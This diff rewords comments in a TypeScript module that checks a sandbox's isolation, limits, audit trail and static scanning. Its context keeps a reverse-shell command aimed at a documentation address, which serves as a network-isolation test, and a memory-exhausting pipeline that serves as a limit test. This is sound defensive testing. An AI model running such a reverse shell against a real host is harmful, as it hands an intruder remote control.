@@ -6,7 +6,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { type CreateRequest, type Door, Fault, type Held } from '@caisson/wire'
 
-/** The seven things to ask of a sandbox. */
+/** The seven questions to ask of a sandbox. */
 export const CHECKS = [
   'process isolation',
   'file-system isolation',
@@ -17,24 +17,24 @@ export const CHECKS = [
   'static analysis',
 ] as const
 
-/** `proven`: tried just now. `promised`: the specs prove it, and it was not tried here. `unavailable`: this wall, or this machine, does not have it. */
+/** `proven`: just tried. `promised`: proven by the specs, not tried here. `unavailable`: this wall or this machine lacks it. */
 export interface Check {
   readonly check: (typeof CHECKS)[number]
   readonly state: 'proven' | 'promised' | 'unavailable'
-  /** What was seen, or why not. */
+  /** What was observed, or why nothing was. */
   readonly evidence: string
 }
 
 interface Parts {
   readonly door: Pick<Door, 'create'>
   readonly request: CreateRequest
-  /** Kinds of what the record says of a sandbox. */
+  /** Kinds of a sandbox's audit records. */
   recorded(sandbox: string, signal: AbortSignal): Promise<readonly string[]>
-  /** How many executions somebody else counts in a sandbox meanwhile; undefined: nobody does. */
+  /** How many executions an independent witness counts in a sandbox meanwhile; undefined: there is none. */
   executions?(sandbox: string, during: () => Promise<unknown>, signal: AbortSignal): Promise<number | undefined>
 }
 
-/** Of the same time. */
+/** Both counts cover the same time. */
 interface Witnessed {
   readonly executed: number
   readonly recorded: number
@@ -42,13 +42,13 @@ interface Witnessed {
 
 const MEMORY_MIB = 96
 const LIFE_MS = 700
-/** Of a program that is to hit a limit: without the limit, its end is another. */
+/** Time limit for a program that should hit a limit. If it does not, it ends differently. */
 const PATIENCE_MS = 30_000
 const MAX_SAID = 4096
-/** To nobody (RFC 5737). */
+/** To a documentation address that nobody has (RFC 5737). */
 const REVERSE_SHELL = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'
 
-/** Tries each on a sandbox behind the wall that `request` names. Only a wall that has been tried already is asked for. */
+/** Tries each check on a sandbox behind the wall that `request` names, which must be a wall that has been tried already. */
 export async function sevenChecks(parts: Parts, signal: AbortSignal): Promise<Check[]> {
   const canary = new Canary()
   await canary.open()
@@ -111,7 +111,7 @@ async function network(sandbox: Held, canary: Canary, signal: AbortSignal): Prom
   }
 }
 
-/** What was not tried has not held. */
+/** A check that could not be tried has not passed. */
 function untold(check: Check['check'], said: string): Check {
   return { check, state: 'unavailable', evidence: `the program that tries it did not say how that went: ${said.slice(0, 200)}` }
 }
@@ -120,7 +120,7 @@ async function memory({ door, request }: Parts, signal: AbortSignal): Promise<Ch
   const check = 'CPU and memory limits'
   return await limited(check, async () => {
     const sandbox = await door.create({ ...request, memoryMiB: MEMORY_MIB, cpus: 1 }, signal)
-    // In memory as a whole: tail(1) keeps a line that does not end.
+    // tail(1) keeps an unfinished line in memory as a whole.
     const program = `head -c ${4 * MEMORY_MIB}m /dev/zero | tail -c ${4 * MEMORY_MIB}m | tail -n 1 | wc -c`
     const reason = await endOf(sandbox, program, signal)
     if (reason === 'memory')
@@ -147,7 +147,7 @@ async function time({ door, request }: Parts, signal: AbortSignal): Promise<Chec
   })
 }
 
-/** A program that starts others, seen by two who do not know of each other. */
+/** Runs a program that starts others, observed by two independent witnesses. */
 async function witness({ recorded, executions }: Parts, sandbox: Held, signal: AbortSignal): Promise<Witnessed | undefined> {
   if (executions === undefined) return undefined
   const count = async () => (await recorded(sandbox.id, signal)).filter((kind) => kind === 'exec').length
@@ -178,7 +178,7 @@ async function record(
   }
 }
 
-/** An early answer, whatever the wall: the others do not depend on it. */
+/** The scan gives early feedback behind every wall; the other checks do not depend on it. */
 async function scan({ door, request }: Parts, signal: AbortSignal): Promise<Check> {
   const check = 'static analysis'
   const sandbox = await door.create({ ...request, scan: 'block' }, signal)
@@ -194,7 +194,7 @@ async function scan({ door, request }: Parts, signal: AbortSignal): Promise<Chec
   }
 }
 
-/** A limit that cannot be had here is refused by name. */
+/** A limit that cannot be enforced here is refused by name. */
 async function limited(check: Check['check'], tried: () => Promise<Check>): Promise<Check> {
   try {
     return await tried()
@@ -212,7 +212,7 @@ async function shell(sandbox: Held, script: string, signal: AbortSignal): Promis
   return Buffer.concat(pieces).toString().slice(0, MAX_SAID)
 }
 
-/** How the sandbox ended, or `its program` where it did not. */
+/** How the sandbox ended, or `its program` if the sandbox lives on. */
 async function endOf(sandbox: Held, script: string, signal: AbortSignal): Promise<string> {
   const over = shell(sandbox, script, signal).then(
     () => 'its program',
@@ -224,7 +224,7 @@ async function endOf(sandbox: Held, script: string, signal: AbortSignal): Promis
   return first
 }
 
-/** A file that anyone on the host may read, and a listener that anyone on the host reaches. */
+/** A file that every host user can read, and a listener that every host user can reach. */
 class Canary implements AsyncDisposable {
   readonly token = `canary${randomBytes(8).toString('hex')}`
   readonly path = join(tmpdir(), this.token)
